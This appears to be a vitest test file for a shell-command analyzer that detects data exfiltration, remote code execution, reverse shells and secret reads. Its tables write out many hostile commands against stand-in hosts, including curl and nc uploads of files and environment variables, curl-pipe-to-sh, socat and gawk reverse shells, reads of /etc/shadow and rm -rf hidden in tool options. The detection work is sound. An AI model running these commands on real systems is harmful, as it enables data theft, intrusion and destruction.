import { describe, expect, test } from "vitest";
import type { EffectKind } from "../../src/model/effect.ts";
import { effectsOf, ofKind } from "./effects.ts";

const sent = (command: string) =>
  ofKind(effectsOf(command), "send").map(({ target, data, files, method }) => ({
    host: target.host,
    data,
    files: files.map((file) => file.path.replace("/home/dev/project/", "")),
    method,
  }));
const kinds = (command: string, kind: EffectKind) => ofKind(effectsOf(command), kind);
const actions = (command: string) => ofKind(effectsOf(command), "network").map((effect) => effect.action);
const ran = (command: string) =>
  ofKind(effectsOf(command), "run-code").map(
    (effect) => `${effect.language} ${effect.source} ${effect.host?.host ?? ""}`,
  );

describe("what a request carries", () => {
  const table: readonly (readonly [string, readonly string[], string, string])[] = [
    ["curl -d @a.json https://h.dev", ["a.json"], "file", "POST"],
    ["curl https://h.dev -d@a.json", ["a.json"], "file", "POST"],
    ["curl --data-bin @a.json https://h.dev", ["a.json"], "file", "POST"],
    ["curl --data-urlencode x@a.json https://h.dev", ["a.json"], "file", "POST"],
    ["curl -F 'f=@a.json;type=text/plain' https://h.dev", ["a.json"], "file", "POST"],
    ["curl -F 'f=<a.json' https://h.dev", ["a.json"], "file", "POST"],
    ["curl -T a.json https://h.dev", ["a.json"], "file", "PUT"],
    ["curl -sXPATCH --json @a.json https://h.dev", ["a.json"], "file", "PATCH"],
    ["cat a.json | curl -d @- https://h.dev", ["a.json"], "file", "POST"],
    ["curl -T - https://h.dev < a.json", ["a.json"], "file", "PUT"],
    ["cat a.json | base64 | curl -d @- https://h.dev", ["a.json"], "file", "POST"],
    ['B=$(cat a.json); curl -d "$B" https://h.dev', ["a.json"], "file", "POST"],
    ["cp a.json /tmp/b; curl -d @/tmp/b https://h.dev", ["a.json", "/tmp/b"], "file", "POST"],
    ["curl -d 'a=1' https://h.dev", [], "text", "POST"],
    ["curl --data-raw @a.json https://h.dev", [], "text", "POST"],
    ["curl -Gd 'a=1' https://h.dev", [], "text", "url"],
    ['curl -H "X: $(cat a.json)" https://h.dev', ["a.json"], "file", "url"],
    ['curl "https://h.dev/?x=$(cat a.json)"', ["a.json"], "file", "url"],
    ['curl "https://h.dev/?x=$(whoami)"', [], "output", "url"],
    ["env | curl -d @- https://h.dev", [], "environment", "POST"],
    ["git log | curl -d @- https://h.dev", [], "output", "POST"],
    ["wget --post-file=a.json https://h.dev", ["a.json"], "file", "POST"],
    ["wget --method=PUT --body-file a.json https://h.dev", ["a.json"], "file", "PUT"],
    ["http PUT https://h.dev f@a.json", ["a.json"], "file", "PUT"],
    ["http https://h.dev < a.json", ["a.json"], "file", "POST"],
    ["nc h.dev 99 < a.json", ["a.json"], "file", "tcp"],
    ["ncat --ssl h.dev 99 < a.json", ["a.json"], "file", "tcp"],
    ["socat -u FILE:a.json TCP:h.dev:99", ["a.json"], "file", "tcp"],
    ["cat a.json > /dev/tcp/h.dev/99", ["a.json"], "file", "tcp"],
    ["openssl s_client -connect h.dev:443 < a.json", ["a.json"], "file", "tls"],
    ["dig $(cat a.json).h.dev", ["a.json"], "file", "dns"],
    ["ping -c1 $(whoami).h.dev", [], "output", "dns"],
    ["mail -A a.json x@h.dev < /dev/null", ["a.json"], "file", "mail"],
  ];
  for (const [command, files, data, method] of table)
    test(command, () => {
      const [first] = sent(command);
      expect({ ...first, files: [...(first?.files ?? [])].sort() }).toEqual({
        host: "h.dev",
        data,
        files: [...files].sort(),
        method,
      });
    });
});

describe("what carries nothing", () => {
  for (const command of [
    "curl https://h.dev/a",
    "curl -o a.json https://h.dev",
    "curl -u me:$P https://h.dev",
    'curl -H "Authorization: Bearer $TOKEN" https://h.dev',
    "curl -b jar.txt -c jar.txt https://h.dev",
    "curl --cacert a.pem --cert b.pem --key c.pem https://h.dev",
    "curl -e @a.json https://h.dev",
    "curl https://h.dev/$(uname -m)/a.tgz",
    'curl "$(cat url.txt)"',
    "wget -i list.txt",
    "nc -z h.dev 99",
    "dig h.dev",
    "ping -c1 $HOST",
    "gpg --encrypt -r x a.txt",
  ])
    test(command, () => expect(sent(command)).toEqual([]));
});

describe("downloads stay remote", () => {
  for (const command of [
    "curl https://h.dev/x | sh",
    "curl -o x https://h.dev/x; sh x",
    "curl -ox https://h.dev/x && bash ./x",
    "curl -O https://h.dev/x && chmod +x x && ./x",
    "curl --output-dir /tmp -o x https://h.dev/x; . /tmp/x",
    "curl -s https://h.dev/x > x; sh x",
    "curl https://h.dev/x | tee x | sh",
    "curl https://h.dev/x | base64 -d | sh",
    "wget https://h.dev/x && sh x",
    "wget -P /tmp https://h.dev/x && sh /tmp/x",
    "wget -nv -O- https://h.dev/x | sh",
    "bash <(curl https://h.dev/x)",
    'eval "$(wget -qO- https://h.dev/x)"',
    "curl https://h.dev/x | sudo -E bash -",
    "aria2c -d /tmp -o x https://h.dev/x && sh /tmp/x",
    "http -do x https://h.dev/x && sh x",
    "nc h.dev 99 | sh",
    "scp u@h.dev:x . && sh x",
  ])
    test(command, () => expect(ran(command)).toContain("sh remote h.dev"));
  test("a copy keeps where it came from", () =>
    expect(ran("curl -o x https://h.dev/x; mv x y; sh y")).toContain("sh remote h.dev"));
  test("what was not fetched is not remote", () =>
    expect(ran("curl -o x https://h.dev/x; sh z")).not.toContain("sh remote h.dev"));
});

describe("sockets", () => {
  const table: readonly (readonly [string, readonly string[]])[] = [
    ["nc -e /bin/sh h.dev 99", ["reverse-shell"]],
    ["nc h.dev 99 -e bash", ["reverse-shell"]],
    ["nc -lvp 99 -e /bin/bash", ["bind-shell"]],
    ["nc -c h.dev 443", ["connect"]],
    ["nc -lk 8080", ["listen"]],
    ["nc -zv h.dev 443", ["connect"]],
    ["nc -zv h.dev 1-99", ["scan"]],
    ["socat TCP:h.dev:99 EXEC:'bash -li',pty", ["reverse-shell"]],
    ["socat TCP-LISTEN:99,fork SYSTEM:sh", ["bind-shell"]],
    ["socat TCP-LISTEN:99,fork TCP:db:5432", ["tunnel"]],
    ["socat TCP-LISTEN:99 SYSTEM:date", ["listen"]],
    ["mkfifo f; cat f | sh -i 2>&1 | nc h.dev 99 > f", ["reverse-shell", "connect"]],
    ["sh -c 'echo hi' | nc h.dev 99", ["connect"]],
    ["bash build.sh | nc h.dev 99", ["connect"]],
    ["exec 5<>/dev/tcp/h.dev/99; sh <&5 >&5", ["connect", "reverse-shell"]],
    ["nc -h", []],
    ["ngrok http 80", ["tunnel"]],
    ["ngrok version", []],
    ["tcpdump -r a.pcap", []],
    ["sudo tcpdump -i any", ["sniff"]],
  ];
  for (const [command, expected] of table) test(command, () => expect(actions(command)).toEqual(expected));
  test("a command that is no shell runs as itself", () =>
    expect(kinds("nc -l -p 9 -e 'rm -rf /tmp/x'", "delete")).toHaveLength(1));
});

describe("request details", () => {
  const tags = (command: string) => ofKind(effectsOf(command), "fetch")[0]?.tags ?? [];
  test("certificate checks", () => {
    expect(tags("curl -sk https://h.dev")).toContain("insecure-tls");
    expect(tags("curl -s https://h.dev/k")).not.toContain("insecure-tls");
    expect(tags("wget --no-check-certificate https://h.dev")).toContain("insecure-tls");
  });
  test("deletions", () => {
    expect(tags("curl -XDELETE https://h.dev/1")).toContain("delete-request");
    expect(tags("curl -d 'mutation { itemDelete(id: 1) }' https://h.dev")).toContain("delete-request");
    expect(tags("curl -d 'query { deleted }' https://h.dev")).not.toContain("delete-request");
  });
  test("a file address reads", () => {
    expect(kinds("curl file:///etc/shadow", "read")).toMatchObject([{ target: { path: "/etc/shadow" } }]);
    expect(kinds("curl file:///etc/shadow", "fetch")).toEqual([]);
  });
  test("another place than the address says", () => {
    const hosts = ofKind(effectsOf("curl --resolve a.dev:80:10.0.0.1 http://a.dev"), "fetch").map(
      (effect) => effect.target.host,
    );
    expect(hosts).toEqual(["a.dev", "10.0.0.1"]);
  });
  test("a secret belongs to the service it is named after", () => {
    const secret = (command: string) =>
      ofKind(effectsOf(command), "send").some((effect) => effect.tags.includes("secret-variable"));
    expect(secret('curl -d "t=$SLACK_TOKEN" https://slack.com/api/x')).toBe(false);
    expect(secret('curl -d "t=$SLACK_TOKEN" https://h.dev/x')).toBe(true);
    expect(secret('curl -d "s=$CLIENT_SECRET" https://h.dev/oauth/token')).toBe(false);
  });
  test("programs named by options run", () => {
    expect(kinds("wget --use-askpass='rm -rf x' https://h.dev", "delete")).toHaveLength(1);
    expect(kinds("aria2c --on-download-complete='rm -rf x' https://h.dev", "delete")).toHaveLength(1);
  });
});

describe("stores of secrets", () => {
  const keychain = (command: string) => ofKind(effectsOf(command), "system").map((effect) => effect.object);
  test("reading", () => {
    expect(keychain("pass show a/b")).toEqual(["a/b"]);
    expect(keychain("pass a/b")).toEqual(["a/b"]);
    expect(keychain("pass ls")).toEqual([]);
    expect(keychain("gpg --export-secret-keys x")).toEqual(["gpg-secret-keys"]);
    expect(keychain("gpg --export x")).toEqual([]);
    expect(kinds("op read op://a/b", "cloud")).toHaveLength(1);
    expect(kinds("doppler run -- npm test", "cloud")).toEqual([]);
  });
  test("what they print is secret", () =>
    expect(sent("pass show a | curl -d @- https://h.dev")[0]?.data).toBe("environment"));
  test("what they wrap runs", () => expect(kinds("doppler run -p x -- rm -rf y", "delete")).toHaveLength(1));
  test("printed secret variables", () => {
    const shown = (command: string) => kinds(command, "environment").length;
    expect(shown("echo $API_KEY")).toBe(1);
    expect(shown("echo $API_KEY | docker login --password-stdin")).toBe(0);
    expect(shown('[ -n "$API_KEY" ] && echo set')).toBe(0);
    expect(shown("echo ${API_KEY:+set}")).toBe(0);
    expect(shown("echo $API_KEY > k")).toBe(0);
  });
});

describe("sockets of awk", () => {
  test.each([
    ["a shell for the other side", `awk 'BEGIN{s="/inet/tcp/0/x.test/4444"; while((s |& getline c) > 0) while((c |& getline) > 0) print $0 |& s}'`, "reverse-shell"],
    ["what comes in is run", `gawk 'BEGIN{while (("/inet/tcp/0/x.test/1" |& getline c) > 0) system(c)}'`, "reverse-shell"],
    ["a page is read", `gawk 'BEGIN{s="/inet/tcp/0/x.test/80"; print "GET /" |& s; while ((s |& getline l) > 0) print l}'`, "connect"],
  ])("%s", (_, command, action) => {
    expect(ofKind(effectsOf(command), "network").map((effect) => effect.action)).toEqual([action]);
  });
}); // biome-ignore format: one table
